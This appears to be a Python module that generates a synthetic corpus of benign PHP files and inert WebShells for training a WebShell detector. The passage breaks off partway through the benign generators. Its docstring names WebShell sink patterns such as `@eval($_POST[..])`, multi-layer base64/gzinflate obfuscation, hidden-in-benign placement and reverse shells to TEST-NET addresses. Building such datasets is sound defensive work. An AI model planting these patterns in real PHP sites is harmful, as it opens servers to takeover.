"""The embedded labelled PHP corpus (benign code and inert WebShells) and a reader for real ones.

BFAD is evaluated on 26.59K real PHP scripts that cannot be shipped. This module ships a
seeded *generator* of PHP source text with known structure instead, so that BFAD's
mechanisms (critical-function filtering, context extraction, behavioural weighting) have
something real to find, and a reader/writer for real corpora laid out on disk.

Everything generated is text. Nothing in this library runs it; the WebShells are *inert*
in the sense that matters for a detector's training data: they show the structure of real
WebShells (a user-input source, optional decoding layers, a sink) while every command,
host and payload is harmless (commands come from the request or are fixed ``echo`` /
``id``-style probes, reverse connections go to documentation addresses of TEST-NET-2/3,
``198.51.100.0/24`` and ``203.0.113.0/24``, which are never routed).

Records
-------
:class:`Sample` ``(name, data, label, family)``; ``label`` 1 = WebShell, 0 = benign.
``name`` of a generated sample is its path in the on-disk layout
(``webshell/obfuscated/00042.php``), so :func:`write_corpus` then :func:`read_corpus`
gives back equal samples.

Families (:func:`families`; the weight is the share *within its label*)
---------------------------------------------------------------------

=====================  =====  ======  ==========================================================
family                 label  weight  what it is
=====================  =====  ======  ==========================================================
page                   0      0.15    HTML pages/templates with echo, loops, forms, partials
class                  0      0.13    namespaced models, repositories and services
crud                   0      0.13    PDO/mysqli CRUD over ``$_POST``/``$_GET`` with escaping
router                 0      0.07    front controllers: regex/switch routes, handler callables
config                 0      0.07    config arrays / ``define`` files (getenv, random salts)
image_data             0      0.08    data-URI images and uploads: ``base64_decode``,
                                      ``move_uploaded_file``, tracking pixels, JWT parsing
admin_script           0      0.08    deploy/backup/status scripts: ``exec``/``shell_exec``/
                                      ``passthru``/``proc_open`` with fixed commands and
                                      ``escapeshellarg``; ``php_uname``, ``phpinfo`` behind auth
api_client             0      0.08    HTTP clients: ``curl_*``, stream contexts, ``fsockopen``
functional             0      0.08    ``array_map``/``array_filter``/``usort``/closures,
                                      ``register_shutdown_function``, ``preg_replace_callback``,
                                      whitelisted variable functions, legacy ``create_function``
plugin_loader          0      0.07    whitelisted ``include``, plugin loaders (``new $class``),
                                      template engines (some compile and ``eval('?>' ...)``)
cache                  0      0.06    file/session caches: ``serialize``, ``gzcompress``,
                                      ``base64_encode``, ``unlink``/``glob`` cleanup
one_liner              1      0.13    ``@eval($_POST[..])``, ``assert``, backticks, ``system`` ...
obfuscated             1      0.19    payload encoded for real in 1-4 layers (base64,
                                      gzdeflate/gzcompress+base64, str_rot13, strrev, hex,
                                      chr/``\\x`` literals), decoded then ``eval``/``assert``
variable_function      1      0.09    sinks called through names assembled from strings
callback               1      0.09    array_map/usort/register_shutdown_function/
                                      preg_replace_callback/ob_start ... with user input
preg_replace_e         1      0.04    ``preg_replace`` / ``mb_ereg_replace`` with the ``e`` flag
create_function        1      0.04    ``create_function`` over user input
file_manager           1      0.10    listing, upload (``move_uploaded_file``), edit, delete
reverse_shell          1      0.06    fsockopen/stream_socket_client/socket_* + proc_open
info_panel             1      0.05    phpinfo, php_uname, getenv, disable_functions probes
hidden_in_benign       1      0.09    HARD: a few lines of WebShell inside a large benign file
password_protected     1      0.07    HARD: md5/sha1/sha256-gated panel behind a fake 404
alt_input              1      0.05    HARD: input from ``$_COOKIE``, headers, ``php://input``
huge_obfuscated        1      --      only with ``huge_fraction``: megabytes of layered payload
=====================  =====  ======  ==========================================================

Deliberate choices where the paper is silent
--------------------------------------------
* **Not separable by one keyword.** Benign families use the "critical" functions in the
  ways real code does (see the table), and WebShells are wrapped in benign-looking padding
  (helper functions, fake plugin headers, HTML) about 40% of the time. About 12% of the
  page/class/router/config/plugin_loader/functional files are the tiny files every code
  base has (front controllers, interfaces, redirects, ``// Silence is golden.``), so size
  alone does not decide either. Measured on ``generate(2000, seed=1)``: the best single
  keyword (``eval(``) classifies 64% correctly, the best size threshold 68%. Every benign
  sample is well-formed PHP (tree-sitter parses it without ``ERROR`` nodes); so are the
  WebShells.
* **Hidden WebShells.** Benign builders mark the places where a statement (or, in inline
  HTML, a ``<?php ... ?>`` island) may go; ``hidden_in_benign`` builds a large benign file
  and puts a 1-4 line WebShell at one of them (inside a method, a request handler, between
  HTML sections), so the file stays well-formed.
* **Exact proportions.** :func:`generate` draws no label or family at random: the number
  of WebShells is ``round(n * malicious_fraction)`` and each label's count is shared among
  its families by largest remainder, so every family with a positive share appears once
  ``n`` is moderate (each appears at ``n >= 60`` with the default fractions). The order is
  a seeded permutation.
* **Determinism and speed.** A master ``numpy`` Generator (``default_rng([seed, 0])``)
  fixes the order and the huge sizes; sample ``i`` draws from its own
  ``default_rng([seed, 1, i])``, read in blocks of 1024 uniforms (a Python-level numpy call
  per choice would dominate). Generation takes about half a millisecond per sample.
* **Sizes.** Builders take a size drawn from a log-normal (benign: a few lines to several
  hundred; WebShells: one-liners are tens of bytes, panels several KB), so most files fall
  in 0.2-20 KB. ``huge_fraction`` adds ``huge_obfuscated`` samples of ``huge_bytes`` (1-6 MB
  by default): a file manager with megabytes of embedded resources (random bytes, hence
  incompressible) packed in 1-3 layers.
* **Layers are real.** Each layer is produced with Python's ``base64``, ``zlib`` (raw
  deflate for ``gzinflate``, zlib format for ``gzuncompress``), ``codecs`` rot13, reversal
  or hex, and the PHP decoder calls are the exact inverses, outermost first:
  ``eval(gzinflate(base64_decode('...')))``. Nested layers are also written as nested
  ``eval`` statements. The encoded text appears as a single-quoted literal (possibly split
  into concatenated chunks), a ``"\\x.."`` literal, a ``chr(..).chr(..)`` chain, or a
  variable assigned one of those. ``str_rot13`` and ``strrev`` appear at most once per
  chain: twice, they would cancel and leave the payload in clear text.
* **Split.** :func:`split` is stratified by label exactly (each part within one sample of
  its share) and by family approximately (each family within two samples of its share):
  samples are grouped by label, families are concatenated in a seeded order, each shuffled,
  and positions are dealt to the part furthest below its quota.
* **Reader.** :func:`read_corpus` walks the tree with an explicit stack (directory symlinks
  are not followed, so loops are impossible), in sorted order, reads through
  :func:`jaxpapers.security.webshell.php.read_source` (so over-long files are truncated
  with a note) and skips unreadable files, and binary ones unless ``keep_binary``, with a
  logged message, never stopping the batch.
"""

from __future__ import annotations

import base64
import codecs
import dataclasses
import hashlib
import logging
import math
import os
import re
import zlib
from collections.abc import Callable, Iterable, Sequence

import numpy as np

from jaxpapers.security.webshell import php

log = logging.getLogger(__name__)

LABEL_DIRS: dict[int, str] = {1: "webshell", 0: "benign"}
EXTENSIONS = (".php", ".phtml", ".php5", ".inc", ".txt")
HUGE_BYTES = (1_000_000, 6_000_000)

LAYOUT = """expected layout:
  <root>/
    webshell/            label 1; files directly here get family 'webshell'
      <family>/...       any depth; family = this first directory level
    benign/              label 0; files directly here get family 'benign'
      <family>/...
  files are read when their name ends with one of {extensions}"""


@dataclasses.dataclass(frozen=True)
class Sample:
    """One labelled PHP file: ``label`` 1 = WebShell, 0 = benign."""

    name: str
    data: bytes
    label: int
    family: str


@dataclasses.dataclass(frozen=True)
class Family:
    """A generator family: its label, its share within the label, and what it is."""

    name: str
    label: int
    weight: float
    description: str


_FAMILIES = (
    Family("page", 0, 0.15, "HTML pages and templates with echo, loops, forms, partials"),
    Family("class", 0, 0.13, "namespaced models, repositories and services"),
    Family("crud", 0, 0.13, "PDO/mysqli CRUD handling $_POST/$_GET with escaping"),
    Family("router", 0, 0.07, "front controllers with regex/switch routes and handlers"),
    Family("config", 0, 0.07, "config arrays and define() files"),
    Family("image_data", 0, 0.08, "data-URI images, uploads, pixels, JWT: base64_decode"),
    Family("admin_script", 0, 0.08, "deploy/backup/status scripts with fixed commands"),
    Family("api_client", 0, 0.08, "HTTP API clients: curl_*, stream contexts, fsockopen"),
    Family("functional", 0, 0.08, "array_map/array_filter/usort, callbacks, closures"),
    Family("plugin_loader", 0, 0.07, "whitelisted include, plugin loaders, template engines"),
    Family("cache", 0, 0.06, "file and session caches with serialize"),
    Family("one_liner", 1, 0.13, "eval/assert/system/backticks on request input"),
    Family("obfuscated", 1, 0.19, "payload encoded in 1-4 real layers, decoded and eval'd"),
    Family("variable_function", 1, 0.09, "sinks called through names built from strings"),
    Family("callback", 1, 0.09, "callback functions fed with request input"),
    Family("preg_replace_e", 1, 0.04, "preg_replace / mb_ereg_replace with the e modifier"),
    Family("create_function", 1, 0.04, "create_function over request input"),
    Family("file_manager", 1, 0.10, "directory listing, upload, edit, delete"),
    Family("reverse_shell", 1, 0.06, "reverse connection to a TEST-NET address + proc_open"),
    Family("info_panel", 1, 0.05, "phpinfo, php_uname, getenv, disable_functions probes"),
    Family("hidden_in_benign", 1, 0.09, "a small WebShell inside a large benign file"),
    Family("password_protected", 1, 0.07, "hash-gated panel behind a fake 404 page"),
    Family("alt_input", 1, 0.05, "input from $_COOKIE, request headers or php://input"),
    Family("huge_obfuscated", 1, 0.0, "megabytes of layered payload (huge_fraction only)"),
)


def families() -> tuple[Family, ...]:
    """Every generator family with its label and its share within the label."""
    return _FAMILIES


# --------------------------------------------------------------------------------------------
# Draws


class _Rand:
    """Scalar draws served from blocks of a numpy Generator's uniforms (fast and seeded)."""

    def __init__(self, gen: np.random.Generator, block: int = 1024):
        self.gen = gen
        self._block = block
        self._buf: list[float] = []
        self._i = 0

    def random(self) -> float:
        if self._i == len(self._buf):
            self._buf = self.gen.random(self._block).tolist()
            self._i = 0
        u = self._buf[self._i]
        self._i += 1
        return u

    def randint(self, lo: int, hi: int) -> int:
        """Uniform on ``lo..hi`` inclusive."""
        return min(hi, lo + int(self.random() * (hi - lo + 1)))

    def choice(self, seq: Sequence):
        return seq[min(len(seq) - 1, int(self.random() * len(seq)))]

    def chance(self, p: float) -> bool:
        return self.random() < p

    def sample(self, seq: Sequence, k: int) -> list:
        pool = list(seq)
        k = min(k, len(pool))
        for i in range(k):
            j = self.randint(i, len(pool) - 1)
            pool[i], pool[j] = pool[j], pool[i]
        return pool[:k]

    def shuffle(self, items: list) -> list:
        return self.sample(items, len(items))

    def lognormal_int(self, median: float, sigma: float, lo: int, hi: int) -> int:
        # Box-Muller from two uniforms; clipped.
        u1 = max(self.random(), 1e-12)
        z = math.sqrt(-2.0 * math.log(u1)) * math.cos(2.0 * math.pi * self.random())
        return int(min(hi, max(lo, round(median * math.exp(sigma * z)))))

    def token(self, k: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
        return "".join(self.choice(alphabet) for _ in range(k))


# --------------------------------------------------------------------------------------------
# Vocabulary and text helpers

NOUNS = (
    "user", "post", "article", "product", "order", "invoice", "customer", "comment",
    "category", "tag", "page", "account", "report", "ticket", "event", "booking", "message",
    "photo", "setting", "subscription", "payment", "review", "address", "employee", "project",
    "task", "note", "item", "coupon", "shipment", "course", "lesson", "author", "book",
    "vendor", "supplier", "warehouse", "team", "member", "survey", "answer", "newsletter",
    "campaign", "lead", "contact", "document", "album", "track", "playlist", "recipe", "venue",
    "room", "reservation", "vehicle", "driver", "device", "sensor", "job", "branch",
    "department", "store", "cart", "brand", "badge", "thread", "reply", "student", "patient",
)  # fmt: skip
VERBS = (
    "get", "load", "find", "fetch", "save", "store", "update", "remove", "list", "render",
    "build", "parse", "format", "validate", "create", "sync", "export", "import", "normalize",
    "count", "filter", "sort", "resolve", "prepare", "handle", "process", "send", "notify",
    "archive", "publish", "refresh", "calculate", "check", "apply", "merge", "collect",
)  # fmt: skip
ADJS = (
    "recent", "popular", "latest", "featured", "active", "pending", "archived", "public",
    "default", "primary", "total", "current", "previous", "next", "new", "visible", "draft",
    "paid", "open", "closed", "weekly", "monthly", "local", "remote", "cached", "selected",
)  # fmt: skip
WORDS = (
    "the", "a", "of", "and", "to", "in", "for", "with", "on", "our", "your", "new", "all",
    "team", "service", "customers", "quality", "support", "online", "best", "price", "free",
    "shipping", "today", "more", "about", "contact", "learn", "every", "week", "update",
    "simple", "fast", "secure", "easy", "local", "community", "events", "news", "read",
    "latest", "products", "offers", "members", "help", "account", "details", "information",
    "please", "check", "order", "history", "open", "hours", "monday", "friday", "city",
    "garden", "coffee", "books", "music", "travel", "school", "clinic", "repair", "design",
)  # fmt: skip
NAMESPACES = (
    "App", "Acme", "Shop", "Blog", "Portal", "Intranet", "Cms", "Crm", "Library", "Booking",
    "School", "Clinic", "Store", "Helpdesk", "Forum", "Inventory", "Billing", "Wiki",
)  # fmt: skip
SITES = (
    "Green Leaf", "Blue Harbor", "Northwind", "Maple & Co", "City Library", "Sunrise Clinic",
    "Riverside School", "Bright Books", "Cafe Aroma", "Pixel Studio", "Alpine Travel",
    "Urban Garden", "Old Town Bakery", "Metro Fitness", "Lakeside Hotel",
)  # fmt: skip
FIELD_TYPES = {
    "id": "int", "name": "string", "title": "string", "email": "string", "status": "string",
    "created_at": "string", "updated_at": "string", "price": "float", "quantity": "int",
    "description": "string", "slug": "string", "body": "string", "phone": "string",
    "city": "string", "country": "string", "total": "float", "amount": "float",
    "currency": "string", "rating": "int", "sku": "string", "position": "int",
    "visible": "bool", "first_name": "string", "last_name": "string", "username": "string",
    "role": "string", "due_date": "string", "priority": "int", "weight": "float", "url": "string",
}  # fmt: skip
FIELDS = tuple(FIELD_TYPES)

_SLOT = "\x00S\x00"  # a statement position (PHP mode); removed or filled before output
_HSLOT = "\x00H\x00"  # a position in inline HTML
_SLOT_LINE = re.compile(r"^([ \t]*)\x00([SH])\x00\n", re.M)
_PLACEHOLDER = re.compile(r"⟨(\w+)⟩")


def _t(template: str, **kw: object) -> str:
    """Fills ``⟨name⟩`` placeholders (PHP's own braces need no escaping)."""
    return _PLACEHOLDER.sub(lambda m: str(kw[m.group(1)]), template)


def php_single_quoted(s: str) -> str:
    """A PHP single-quoted literal whose value is ``s`` (escapes ``\\`` and ``'``)."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def _php_double_quoted(s: str) -> str:
    out = s.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$")
    return '"' + out.replace("\n", "\\n").replace("\t", "\\t") + '"'


def _camel(words: Sequence[str]) -> str:
    parts = "_".join(words).split("_")
    return parts[0] + "".join(p[:1].upper() + p[1:] for p in parts[1:])


def _pascal(words: Sequence[str]) -> str:
    return "".join(p[:1].upper() + p[1:] for p in "_".join(words).split("_"))


class _Ctx:
    """Per-file draws and style: naming convention, quotes, indentation, used names."""

    def __init__(self, r: _Rand):
        self.r = r
        self.camel = r.chance(0.55)
        self.tabs = r.chance(0.15)
        self.double = r.chance(0.2)
        self.used: set[str] = set()

    def name(self, *words: str) -> str:
        base = _camel(words) if self.camel else "_".join(words)
        name, k = base, 2
        while name in self.used:
            name, k = f"{base}{k}", k + 1
        self.used.add(name)
        return name

    def var(self, *words: str) -> str:
        return "$" + (_camel(words) if self.camel else "_".join(words))

    def lit(self, s: str) -> str:
        if self.double and "$" not in s and "\\" not in s:
            return _php_double_quoted(s)
        return php_single_quoted(s)

    def noun(self) -> str:
        return self.r.choice(NOUNS)

    def words(self, lo: int, hi: int) -> str:
        return " ".join(self.r.choice(WORDS) for _ in range(self.r.randint(lo, hi)))

    def sentence(self, lo: int = 4, hi: int = 12) -> str:
        s = self.words(lo, hi)
        return s[:1].upper() + s[1:] + "."

    def title(self) -> str:
        return " ".join(w.capitalize() for w in self.words(1, 4).split())

    def comment(self, indent: str = "") -> str:
        """A line, block or doc comment, ending in a newline."""
        kind = self.r.randint(0, 3)
        if kind == 0:
            return f"{indent}// {self.sentence()}\n"
        if kind == 1:
            return f"{indent}# {self.sentence()}\n"
        if kind == 2:
            return f"{indent}/* {self.sentence()} */\n"
        lines = [f"{indent}/**"] + [
            f"{indent} * {self.sentence()}" for _ in range(self.r.randint(1, 3))
        ]
        return "\n".join(lines) + f"\n{indent} */\n"

    def maybe_comment(self, indent: str = "", p: float = 0.35) -> str:
        return self.comment(indent) if self.r.chance(p) else ""

    def key(self) -> str:
        """A request-parameter name as WebShells use them."""
        if self.r.chance(0.5):
            return self.r.choice(
                ("pass", "cmd", "c", "x", "z", "a", "code", "e", "ant", "shell", "pwd", "q",
                 "k", "1", "h", "act", "exec", "_", "p", "do", "s", "test", "chopper")
            )  # fmt: skip
        return self.r.token(self.r.randint(1, 8), "abcdefghijklmnopqrstuvwxyz0123456789_")


def _finish(c: _Ctx, text: str) -> bytes:
    """Removes unused slots, applies the file's indentation style, encodes."""
    text = _SLOT_LINE.sub("", text).replace(_SLOT, "").replace(_HSLOT, "")
    if c.tabs:
        text = re.sub(r"^((?:    )+)", lambda m: "\t" * (len(m.group(1)) // 4), text, flags=re.M)
    return text.encode("utf-8")


def _indent(block: str, indent: str) -> str:
    return "".join(indent + line if line.strip() else line for line in block.splitlines(True))


# --------------------------------------------------------------------------------------------
# Shared benign helper functions (top-level declarations; also used as WebShell padding)


def _helper(c: _Ctx) -> str:
    r = c.r
    kind = r.randint(0, 15)
    if kind == 0:
        n = c.name(r.choice(("e", "esc", "h", "escape", "html")))
        return _t(
            """function ⟨n⟩(?string $value): string
{
    return htmlspecialchars((string) $value, ENT_QUOTES | ENT_SUBSTITUTE, 'UTF-8');
}
""",
            n=n,
        )
    if kind == 1:
        n = c.name("slugify") if r.chance(0.5) else c.name("make", "slug")
        return _t(
            """function ⟨n⟩(string $text, string $sep = '-'): string
{
    $text = strtolower(trim($text));
    $text = preg_replace('/[^a-z0-9]+/', $sep, $text);
    return trim((string) $text, $sep);
}
""",
            n=n,
        )
    if kind == 2:
        n = c.name("truncate") if r.chance(0.5) else c.name("str", "limit")
        return _t(
            """function ⟨n⟩(string $text, int $limit = ⟨lim⟩, string $end = '...'): string
{
    if (mb_strlen($text) <= $limit) {
        return $text;
    }
    return rtrim(mb_substr($text, 0, $limit)) . $end;
}
""",
            n=n,
            lim=r.choice((40, 80, 120, 160, 200)),
        )
    if kind == 3:
        n = c.name("format", "money") if r.chance(0.5) else c.name("price")
        cur = r.choice(("$", "EUR ", "GBP ", "CHF "))
        return _t(
            """function ⟨n⟩(float $amount): string
{
    return ⟨cur⟩ . number_format($amount, 2, '.', ',');
}
""",
            n=n,
            cur=php_single_quoted(cur),
        )
    if kind == 4:
        n = c.name("array", "get") if r.chance(0.5) else c.name("data", "get")
        return _t(
            """function ⟨n⟩(array $data, string $path, mixed $default = null): mixed
{
    foreach (explode('.', $path) as $segment) {
        if (!is_array($data) || !array_key_exists($segment, $data)) {
            return $default;
        }
        $data = $data[$segment];
    }
    return $data;
}
""",
            n=n,
        )
    if kind == 5:
        n = c.name("redirect") if r.chance(0.6) else c.name("redirect", "to")
        return _t(
            """function ⟨n⟩(string $url, int $status = 302): never
{
    header('Location: ' . $url, true, $status);
    exit;
}
""",
            n=n,
        )
    if kind == 6:
        n = c.name("csrf", "token")
        return _t(
            """function ⟨n⟩(): string
{
    if (empty($_SESSION['⟨k⟩'])) {
        $_SESSION['⟨k⟩'] = bin2hex(random_bytes(32));
    }
    return $_SESSION['⟨k⟩'];
}
""",
            n=n,
            k=r.choice(("_csrf", "csrf_token", "token")),
        )
    if kind == 7:
        n = c.name("verify", "csrf") if r.chance(0.5) else c.name("check", "token")
        return _t(
            """function ⟨n⟩(): bool
{
    $sent = (string) ($_POST['_token'] ?? '');
    return $sent !== '' && hash_equals((string) ($_SESSION['_token'] ?? ''), $sent);
}
""",
            n=n,
        )
    if kind == 8:
        n = c.name("is", "ajax")
        return _t(
            """function ⟨n⟩(): bool
{
    return strtolower($_SERVER['HTTP_X_REQUESTED_WITH'] ?? '') === 'xmlhttprequest';
}
""",
            n=n,
        )
    if kind == 9:
        n = c.name("old") if r.chance(0.5) else c.name("old", "input")
        return _t(
            """function ⟨n⟩(string $key, string $default = ''): string
{
    return htmlspecialchars((string) ($_POST[$key] ?? $default), ENT_QUOTES, 'UTF-8');
}
""",
            n=n,
        )
    if kind == 10:
        n = c.name("paginate")
        return _t(
            """function ⟨n⟩(array $rows, int $page, int $perPage = ⟨pp⟩): array
{
    $pages = max(1, (int) ceil(count($rows) / $perPage));
    $page = min(max(1, $page), $pages);
    return [
        'items' => array_slice($rows, ($page - 1) * $perPage, $perPage),
        'page' => $page,
        'pages' => $pages,
    ];
}
""",
            n=n,
            pp=r.choice((10, 12, 20, 25, 50)),
        )
    if kind == 11:
        n = c.name("flash")
        return _t(
            """function ⟨n⟩(string $message, string $type = 'info'): void
{
    $_SESSION['flash'][$type][] = $message;
}
""",
            n=n,
        )
    if kind == 12:
        n = c.name("json", "response")
        return _t(
            """function ⟨n⟩(array $payload, int $status = 200): void
{
    http_response_code($status);
    header('Content-Type: application/json; charset=utf-8');
    echo json_encode($payload, JSON_UNESCAPED_SLASHES | JSON_UNESCAPED_UNICODE);
    exit;
}
""",
            n=n,
        )
    if kind == 13:
        n = c.name("log", "message") if r.chance(0.5) else c.name("write", "log")
        return _t(
            """function ⟨n⟩(string $message, string $level = 'info'): void
{
    $line = sprintf("[%s] %s: %s\\n", date('Y-m-d H:i:s'), strtoupper($level), $message);
    file_put_contents(__DIR__ . '/⟨f⟩', $line, FILE_APPEND | LOCK_EX);
}
""",
            n=n,
            f=r.choice(("logs/app.log", "../storage/app.log", "var/log/site.log", "error.log")),
        )
    if kind == 14:
        n = c.name("client", "ip")
        return _t(
            """function ⟨n⟩(): string
{
    $ip = $_SERVER['REMOTE_ADDR'] ?? '';
    return filter_var($ip, FILTER_VALIDATE_IP) !== false ? $ip : '0.0.0.0';
}
""",
            n=n,
        )
    n = c.name("time", "ago") if r.chance(0.5) else c.name("human", "date")
    return _t(
        """function ⟨n⟩(string $date): string
{
    $diff = (new DateTimeImmutable())->diff(new DateTimeImmutable($date));
    if ($diff->days > 0) {
        return $diff->days . ' day' . ($diff->days === 1 ? '' : 's') . ' ago';
    }
    if ($diff->h > 0) {
        return $diff->h . ' hour' . ($diff->h === 1 ? '' : 's') . ' ago';
    }
    return 'just now';
}
""",
        n=n,
    )


def _helpers(c: _Ctx, k: int) -> str:
    return "\n".join(c.maybe_comment() + _helper(c) for _ in range(k))


def _file_header(c: _Ctx) -> str:
    """An optional doc comment at the top of a file (after ``<?php``)."""
    r = c.r
    if r.chance(0.45):
        return ""
    lines = ["/**", f" * {c.sentence()}"]
    if r.chance(0.5):
        lines.append(" *")
        lines.append(f" * @package {r.choice(NAMESPACES)}")
    if r.chance(0.3):
        lines.append(f" * @author {c.title()} <dev@example.com>")
    if r.chance(0.3):
        lines.append(f" * @license {r.choice(('MIT', 'GPL-2.0-or-later', 'proprietary'))}")
    lines.append(" */")
    return "\n".join(lines) + "\n"


# --------------------------------------------------------------------------------------------
# Benign families


def _rows_literal(c: _Ctx, fields: Sequence[str], k: int, indent: str = "    ") -> str:
    r = c.r
    rows = []
    for i in range(k):
        vals = []
        for f in fields:
            t = FIELD_TYPES[f]
            if f == "id":
                v = str(i + 1)
            elif t == "int":
                v = str(r.randint(0, 500))
            elif t == "float":
                v = f"{r.randint(1, 99999) / 100:.2f}"
            elif t == "bool":
                v = r.choice(("true", "false"))
            elif f == "email":
                v = php_single_quoted(f"{r.choice(NOUNS)}{r.randint(1, 99)}@example.com")
            elif f in ("created_at", "updated_at", "due_date"):
                v = php_single_quoted(
                    f"20{r.randint(18, 25)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}"
                )
            else:
                v = php_single_quoted(c.title())
            vals.append(f"'{f}' => {v}")
        rows.append(f"{indent}[" + ", ".join(vals) + "],")
    return "[\n" + "\n".join(rows) + "\n]"


_N_SECTIONS = 11


def _html_section(
    c: _Ctx, items: str, fields: Sequence[str], q: str, kind: int | None = None
) -> str:
    """One block of inline HTML (with ``<?php ... ?>`` islands) of kind ``kind`` (or drawn)."""
    r = c.r
    kind = r.randint(0, _N_SECTIONS - 1) if kind is None else kind
    f0 = fields[1] if len(fields) > 1 else fields[0]
    if kind == 0:
        links = "\n".join(
            f'        <li><a href="/{c.noun()}s">{c.title()}</a></li>'
            for _ in range(r.randint(3, 7))
        )
        return f'<nav class="{r.choice(("main-nav", "navbar", "menu"))}">\n    <ul>\n{links}\n    </ul>\n</nav>\n'
    if kind == 1:
        return _t(
            """<ul class="⟨cls⟩">
    <?php foreach (⟨items⟩ as $item): ?>
        <li><a href="/⟨noun⟩/<?= (int) $item['id'] ?>"><?= htmlspecialchars((string) $item['⟨f⟩'], ENT_QUOTES, 'UTF-8') ?></a></li>
    <?php endforeach; ?>
</ul>
""",
            cls=r.choice(("list", "items", "cards", "entries")),
            items=items,
            noun=c.noun(),
            f=f0,
        )
    if kind == 2:
        return _t(
            """<?php if (empty(⟨items⟩)): ?>
    <p class="empty">⟨msg⟩</p>
<?php else: ?>
    <p><?= count(⟨items⟩) ?> ⟨what⟩</p>
<?php endif; ?>
""",
            items=items,
            msg=c.sentence(3, 6),
            what=c.words(1, 3),
        )
    if kind == 3:
        head = "".join(f"<th>{f.replace('_', ' ').title()}</th>" for f in fields)
        cells = "".join(
            f"<td><?= htmlspecialchars((string) ($row['{f}'] ?? ''), ENT_QUOTES, 'UTF-8') ?></td>"
            for f in fields
        )
        return _t(
            """<table class="table">
    <thead><tr>⟨head⟩</tr></thead>
    <tbody>
    <?php foreach (⟨items⟩ as $row): ?>
        <tr>⟨cells⟩</tr>
    <?php endforeach; ?>
    </tbody>
</table>
""",
            head=head,
            cells=cells,
            items=items,
        )
    if kind == 4:
        return _t(
            """<form method="get" action="" class="search">
    <input type="search" name="q" value="<?= htmlspecialchars(⟨q⟩ ?? '', ENT_QUOTES, 'UTF-8') ?>" placeholder="⟨ph⟩">
    <button type="submit">Search</button>
</form>
""",
            q=q,
            ph=c.title(),
        )
    if kind == 5:
        paras = "\n".join(f"    <p>{c.sentence(8, 25)}</p>" for _ in range(r.randint(1, 4)))
        return f"<section>\n    <h2>{c.title()}</h2>\n{paras}\n</section>\n"
    if kind == 6:
        return """<?php if (!empty($_SESSION['flash'])): ?>
    <div class="alert"><?= htmlspecialchars((string) $_SESSION['flash'], ENT_QUOTES, 'UTF-8') ?></div>
    <?php unset($_SESSION['flash']); ?>
<?php endif; ?>
"""
    if kind == 7:
        part = r.choice(("sidebar", "header", "breadcrumbs", "newsletter", "banner"))
        return f"<?php include __DIR__ . '/partials/{part}.php'; ?>\n"
    if kind == 8:
        site = r.choice(SITES).replace("&", "&amp;")
        return f"<footer>\n    <p>&copy; <?php echo date('Y'); ?> {site}. {c.sentence(3, 8)}</p>\n</footer>\n"
    if kind == 9:
        cls = r.choice(("toggle", "dropdown", "accordion", "tab"))
        return _t(
            """<script>
document.querySelectorAll('.⟨cls⟩').forEach(function (el) {
    el.addEventListener('click', function () {
        el.classList.toggle('open');
    });
});
</script>
""",
            cls=cls,
        )
    price = next((f for f in fields if FIELD_TYPES[f] == "float"), None)
    value = (
        f"<?= number_format((float) $card['{price}'], 2) ?>"
        if price
        else f"<?= htmlspecialchars((string) $card['{f0}']) ?>"
    )
    return _t(
        """<div class="grid">
    <?php foreach (⟨items⟩ as $card): ?>
        <article class="card">
            <h3><?= htmlspecialchars((string) $card['⟨f⟩']) ?></h3>
            <span class="value">⟨value⟩</span>
        </article>
    <?php endforeach; ?>
</div>
""",
        items=items,
        f=f0,
        value=value,
    )


def _page(c: _Ctx, size: int) -> str:
    r = c.r
    noun = c.noun()
    fields = ["id", *r.sample([f for f in FIELDS if f != "id"], r.randint(2, 5))]
    items = c.var(r.choice(ADJS), noun + "s")
    q = c.var("query") if r.chance(0.5) else "$q"
    out = ["<?php\n", _file_header(c)]
    if r.chance(0.25):
        out.append("declare(strict_types=1);\n\n")
    init = r.choice(("bootstrap", "config", "includes/init", "inc/functions", "app/start"))
    out.append(f"require_once __DIR__ . '/{init}.php';\n\n")
    if r.chance(0.5):
        out.append("session_start();\n")
    out.append(f"$title = {c.lit(c.title())};\n")
    out.append(f"{q} = trim((string) ($_GET['q'] ?? ''));\n")
    if r.chance(0.5):
        out.append(f"{items} = {_rows_literal(c, fields, r.randint(2, 6))};\n")
    else:
        fn = c.name(r.choice(("get", "fetch", "load")), r.choice(ADJS), noun + "s")
        out.append(f"{items} = {fn}({q}, {r.choice((5, 10, 12, 20, 50))});\n")
    if r.chance(0.4):
        out.append(
            _t(
                "if (⟨q⟩ !== '') {\n    ⟨it⟩ = array_filter(⟨it⟩, fn($row) => stripos((string) $row['⟨f⟩'], ⟨q⟩) !== false);\n}\n",
                q=q,
                it=items,
                f=fields[1],
            )
        )
    out.append(_SLOT + "\n")
    out.append("?>\n")
    css = r.choice(("main", "style", "app", "site", "theme"))
    out.append(
        _t(
            """<!DOCTYPE html>
<html lang="⟨lang⟩">
<head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <title><?= htmlspecialchars($title, ENT_QUOTES, 'UTF-8') ?></title>
    <link rel="stylesheet" href="/assets/⟨css⟩.css">
</head>
<body>
<h1><?= htmlspecialchars($title) ?></h1>
""",
            lang=r.choice(("en", "en", "de", "fr", "es")),
            css=css,
        )
    )
    kinds: list[int] = []
    while len(kinds) < size:  # every kind once before any repeats
        kinds += r.shuffle(list(range(_N_SECTIONS)))
    for kind in kinds[:size]:
        out.append(_HSLOT + "\n")
        out.append(_html_section(c, items, fields, q, kind))
    out.append("</body>\n</html>\n")
    return "".join(out)


def _class_method(c: _Ctx, cls: str, fields: Sequence[str], props: dict[str, str]) -> str:
    r = c.r
    kind = r.randint(0, 11)
    slot = "        " + _SLOT + "\n"
    if kind == 0:
        p = next((props[f] for f in fields if f == "email"), None) or props[fields[-1]]
        return _t(
            """    public function validate(): void
    {
⟨slot⟩        if (trim((string) $this->⟨p⟩) === '') {
            throw new InvalidArgumentException('⟨msg⟩');
        }
    }
""",
            p=p,
            slot=slot,
            msg=c.sentence(3, 6),
        )
    if kind == 1:
        body = "\n".join(f"            '{f}' => $this->{props[f]}," for f in fields)
        return f"    public function toArray(): array\n    {{\n{slot}        return [\n{body}\n        ];\n    }}\n"
    if kind == 2:
        args = ", ".join(
